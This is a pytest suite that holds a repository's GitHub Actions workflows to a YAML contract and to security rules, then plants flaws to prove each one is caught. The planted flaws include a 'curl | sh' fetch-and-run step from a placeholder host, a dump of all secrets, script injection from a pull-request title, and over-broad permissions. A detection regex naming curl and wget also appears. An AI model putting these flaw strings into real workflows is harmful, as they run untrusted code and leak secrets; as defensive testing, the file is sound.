"""What every workflow may do, held against a list; and the flaws linters do not see, planted and found.

The list is `alur/kontrak.yaml`. A change of a workflow is a change of that list, read by whoever owns the desk.
The laws below hold whatever the list says. Kinds of flaws: reliability notes 2.3, where linters found 12 of 28.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

ROOT = Path(__file__).parents[2]
FOLDER = ROOT / ".github/workflows"
NAMES = sorted(path.stem for path in FOLDER.iterdir())
CONTRACT: dict[str, Any] = yaml.load(  # strings only, so that `on` stays a word
    (Path(__file__).parent / "alur/kontrak.yaml").read_text(encoding="utf-8"),
    Loader=yaml.BaseLoader,  # noqa: S506
)
TOP = {"name", "on", "permissions", "concurrency", "defaults", "jobs"}
JOB = {"name", "if", "needs", "runs-on", "timeout-minutes", "environment", "permissions", "steps"}
STEP = {"name", "id", "uses", "with", "env", "run"}
SECRET = re.compile(r"\bsecrets\b[.\w\[\]'\"]*")
USES = re.compile(r"^\s*(?:- )?uses:\s*(.*?)\s*$", re.MULTILINE)


def read(name: str) -> str:
    return (FOLDER / f"{name}.yml").read_text(encoding="utf-8")


def line(step: Mapping[str, Any]) -> str:
    """Return a step as one line: the action and its inputs, or the environment and the command."""
    if "uses" in step:
        inputs = [f"{key}={value}" for key, value in step.get("with", {}).items()]
        return " ".join([step["uses"].partition("@")[0], *inputs])
    return " ".join([*(f"{key}={value}" for key, value in step.get("env", {}).items()), "$", step.get("run", "")])


def said(job: Mapping[str, Any]) -> dict[str, Any]:
    """Return what the contract says about one job."""
    plain = {key: job[key] for key in ("if", "needs", "environment", "permissions") if key in job}
    found = sorted(set(SECRET.findall(str(job))))
    return {
        **plain,
        "timeout": job.get("timeout-minutes"),
        **({"secrets": found} if found else {}),
        "steps": [line(step) for step in job["steps"]],
    }


def faults(name: str, text: str) -> list[str]:
    """Return every way in which a workflow differs from the contract or breaks a law."""
    found = yaml.load(text, Loader=yaml.BaseLoader)  # noqa: S506
    return [*differences(name, text, found), *broken(text, found)]


def differences(name: str, text: str, found: dict[str, Any]) -> Iterator[str]:
    agreed = CONTRACT["workflows"][name]
    for key in ("on", "concurrency"):
        if found.get(key) != agreed[key]:
            yield f"{key}: {found.get(key)}"
    if found["jobs"].keys() != agreed["jobs"].keys():
        yield f"jobs: {', '.join(found['jobs'])}"
    for job, facts in found["jobs"].items():
        given, wanted = said(facts), agreed["jobs"].get(job, {})
        for key in given.keys() | wanted.keys():
            if given.get(key) != wanted.get(key):
                yield f"{job}: {key}: {given.get(key)}"
    pins = {f"{action}@{commit}" for action, commit in CONTRACT["pins"].items()}
    yield from (f"uses: {used}" for used in USES.findall(text) if used not in pins)


def broken(text: str, found: dict[str, Any]) -> Iterator[str]:
    """Yield what no workflow of ours may say."""
    if not text.startswith("# "):
        yield "the reasons are not said at the top"
    if unknown := found.keys() - TOP:
        yield f"keys: {sorted(unknown)}"
    if found.get("permissions") != {}:
        yield "rights belong to jobs"
    if found.get("defaults") != {"run": {"shell": "bash"}}:
        yield "without a shell named, a failure inside a pipe passes"
    if re.search(r"pull_request_target|workflow_run|issue_comment", str(found["on"])):
        yield "a stranger's word runs beside the secrets"
    for name, job in found["jobs"].items():
        if job.get("name", "").partition(" ")[0] != name:
            yield f"{name}: the ruleset knows checks by the names of jobs, and this one is called {job.get('name')}"
        yield from (f"{name}: {fault}" for fault in broken_job(job))


def broken_job(job: dict[str, Any]) -> Iterator[str]:
    if unknown := job.keys() - JOB:
        yield f"keys: {sorted(unknown)}"
    if job.get("runs-on") != "ubuntu-24.04":
        yield f"runs on {job.get('runs-on')}"
    if "permissions" not in job:
        yield "no rights named"
    if not 0 < int(job.get("timeout-minutes", 0)) <= 60:
        yield "no end"
    if SECRET.search(str(job)) and "environment" not in job:
        yield "a secret outside an environment"
    for step in job["steps"]:
        yield from broken_step(step, keyed=bool(SECRET.search(str(job))))


def broken_step(step: dict[str, Any], *, keyed: bool) -> Iterator[str]:
    if unknown := step.keys() - STEP:
        yield f"keys: {sorted(unknown)}"
    script, action = step.get("run", ""), step.get("uses", "")
    if "${{" in script:
        yield "an expression becomes code"
    if re.search(r"\|\||;|curl|wget|pip |npm |GITHUB_(ENV|PATH)", script) and script not in CONTRACT["exceptions"]:
        yield f"script: {script}"
    if "cache" in f"{action} {step.get('with', {})}":
        yield "a cache is open to every run"
    if action.startswith("actions/checkout@"):
        given = step.get("with", {})
        if given.get("persist-credentials") != "false":
            yield "the token stays in .git/config"
        if keyed and given.get("ref") != "main":
            yield "something else than main is checked out beside a secret"


@pytest.mark.parametrize("name", NAMES)
def test_each_workflow_does_what_was_agreed_and_nothing_else(name: str) -> None:
    assert faults(name, read(name)) == []


def test_no_workflow_is_without_a_contract_and_no_pin_without_a_use() -> None:
    assert sorted(CONTRACT["workflows"]) == NAMES
    assert {path.suffix for path in FOLDER.iterdir()} == {".yml"}
    used = {action for name in NAMES for action in re.findall(r"uses: (\S+)@", read(name))}
    assert used == set(CONTRACT["pins"])
    assert all(re.fullmatch(r"[0-9a-f]{40} # v\d+\.\d+\.\d+", commit) for commit in CONTRACT["pins"].values())


def test_what_publishes_waits_its_turn_and_is_never_dropped() -> None:
    for name in NAMES:
        queue = yaml.load(read(name), Loader=yaml.BaseLoader)["concurrency"]  # noqa: S506
        cancels = queue["cancel-in-progress"] == "true"
        assert cancels is (name == "check")
        assert cancels or queue["queue"] == "max"
    assert all(
        "github." not in CONTRACT["workflows"][name]["concurrency"]["group"] for name in ("publish", "controller")
    )


def test_only_three_places_hold_secrets_and_one_the_platforms_tokens() -> None:
    holders = {
        f"{name}/{job}": (facts["environment"], facts["secrets"])
        for name, agreed in CONTRACT["workflows"].items()
        for job, facts in agreed["jobs"].items()
        if "secrets" in facts
    }
    robot = ["secrets.JDIH_APP_KUNCI", "secrets.JDIH_KUNCI_ROBOT"]
    assert holders == {
        "controller/kendali": ("kendali", robot),
        "publish/publikasi": ("publikasi", [*robot, "secrets.JDIH_RAHASIA"]),
        "resolve/putusan": ("publikasi", robot),
    }


@dataclass(frozen=True, slots=True)
class Flaw:
    """One planted flaw: in which workflow, what is replaced by what."""

    name: str
    old: str
    new: str


CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"
PUBLISH = "        run: ./jdih github publish\n"
PUBLISH_RIGHTS = "    environment: publikasi\n    permissions:\n"
SETUP = "        run: make setup\n"

CAUGHT_BY_LINTERS = {
    "an action by tag": Flaw("publish", f"{CHECKOUT} # v7.0.1", "actions/checkout@v7"),
    "an action by branch": Flaw("check", f"{CHECKOUT} # v7.0.1", "actions/checkout@main"),
    "a title inside a script": Flaw("check", '--pull "$PULL"', "--pull ${{ github.event.pull_request.title }}"),
    "a token that outlives its job": Flaw(
        "controller", "permission-contents: write\n", "permission-contents: write\n          skip-token-revoke: true\n"
    ),
    "a trigger a stranger pulls": Flaw("controller", "  issues:\n", "  pull_request_target:\n  issues:\n"),
    "all rights for everybody": Flaw("signal", "permissions: {}", "permissions: write-all"),
    "no rights named": Flaw("publish", "permissions: {}\n", ""),
    "the token left in the checkout": Flaw("check", "          persist-credentials: false\n", ""),
    "every secret at once": Flaw("publish", "${{ secrets.JDIH_RAHASIA }}", "${{ toJson(secrets) }}"),
    "a machine of our own": Flaw("check", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    "a misspelt key": Flaw("heartbeat", "    permissions:\n", "    permisions:\n"),
    "a secret without its environment": Flaw("controller", "    environment: kendali\n", ""),
}
MISSED_BY_LINTERS = {
    "a version comment that lies": Flaw("publish", f"{CHECKOUT} # v7.0.1", f"{CHECKOUT} # v6.0.0"),
    "a right to sign in elsewhere": Flaw("publish", PUBLISH_RIGHTS, f"{PUBLISH_RIGHTS}      id-token: write # x\n"),
    "a right to start runs": Flaw("publish", PUBLISH_RIGHTS, f"{PUBLISH_RIGHTS}      actions: write # x\n"),
    "a value handed to every later step": Flaw(
        "publish", PUBLISH, '        run: echo "JDIH_KUNCI=$PWD/x" >> "$GITHUB_ENV"\n'
    ),
    "a cache where things are published": Flaw(
        "publish", 'python-version: "3.11"\n', 'python-version: "3.11"\n          cache: pip\n'
    ),
    "a secret for the whole workflow": Flaw(
        "publish", "concurrency:\n", "env:\n  JDIH_RAHASIA: ${{ secrets.JDIH_RAHASIA }}\nconcurrency:\n"
    ),
    "a run cancelled in the middle": Flaw("publish", "cancel-in-progress: false", "cancel-in-progress: true"),
    "a queue of one": Flaw("publish", "  queue: max\n", ""),
    "a queue for every commit": Flaw("publish", "group: publish", "group: publish-${{ github.sha }}"),
    "nothing by the clock": Flaw("reconcile", '  schedule:\n    - cron: "11,41 * * * *"\n', ""),
    "no end": Flaw("publish", "    timeout-minutes: 60\n", ""),
    "a failure that passes": Flaw("publish", PUBLISH, f"{PUBLISH}        continue-on-error: true\n"),
    "a failure swallowed": Flaw("publish", PUBLISH, PUBLISH.replace("publish\n", "publish || true\n")),
    "every branch published": Flaw("publish", "    branches: [main]\n", ""),
    "content that publishes nothing": Flaw(
        "publish", "    branches: [main]\n", '    branches: [main]\n    paths-ignore: ["content/**"]\n'
    ),
    "an install without hashes": Flaw("publish", SETUP, "        run: pip install -e .\n"),
    "a script from the network": Flaw("publish", SETUP, "        run: curl -s https://contoh.example/x | sh\n"),
}
OF_OUR_OWN = {
    "the proposal's code beside the secrets": Flaw("controller", "ref: main", "ref: ${{ inputs.pull }}"),
    "a guard switched off": Flaw("publish", "    needs: [tayang]\n", ""),
    "the required check under another name": Flaw("check", "    name: check\n", "    name: periksa\n"),
    "a job skipped for good": Flaw("check", "    name: kode\n", "    name: kode\n    if: false\n"),
    "tests that pass by themselves": Flaw("check", "|| bash .ci/run", "|| true"),
    "an address for the platforms' keys": Flaw("controller", "secrets.JDIH_KUNCI_ROBOT", "secrets.JDIH_RAHASIA"),
    "a wider App token": Flaw("publish", "permission-contents: write", "permission-administration: write"),
    "somebody else's word about who asks": Flaw("resolve", "github.triggering_actor", "inputs.kunci"),
    "a filter on the required check": Flaw("check", "  pull_request:\n", "  pull_request:\n    paths: [pipeline/**]\n"),
    "a shell that hears no pipe": Flaw("controller", "    shell: bash\n", "    shell: sh\n"),
    "a new workflow's job": Flaw("signal", "jobs:\n", "jobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps: []\n"),
}
FLAWS = {**CAUGHT_BY_LINTERS, **MISSED_BY_LINTERS, **OF_OUR_OWN}


def planted(flaw: Flaw) -> str:
    text = read(flaw.name)
    assert flaw.old in text, "the workflow changed and the flaw can no longer be planted"
    return text.replace(flaw.old, flaw.new)


@pytest.mark.parametrize("flaw", FLAWS.values(), ids=[name.replace(" ", "-") for name in FLAWS])
def test_a_planted_flaw_is_found(flaw: Flaw) -> None:
    assert faults(flaw.name, planted(flaw)) != []


def test_at_least_twenty_eight_kinds_of_flaws_are_planted() -> None:
    assert len(CAUGHT_BY_LINTERS) >= 12
    assert len(MISSED_BY_LINTERS) >= 16
    assert len({planted(flaw) for flaw in FLAWS.values()}) == len(FLAWS), "each is another flaw"


@pytest.mark.parametrize(
    "name",
    [
        "a title inside a script",
        "the proposal's code beside the secrets",
        "a trigger a stranger pulls",
        "a secret without its environment",
        "a value handed to every later step",
        "a cache where things are published",
        "no end",
        "a failure that passes",
        "a failure swallowed",
        "a script from the network",
    ],
)
def test_a_law_holds_even_when_the_list_is_changed_with_the_workflow(name: str) -> None:
    text = planted(FLAWS[name])
    assert list(broken(text, yaml.load(text, Loader=yaml.BaseLoader))) != []  # noqa: S506
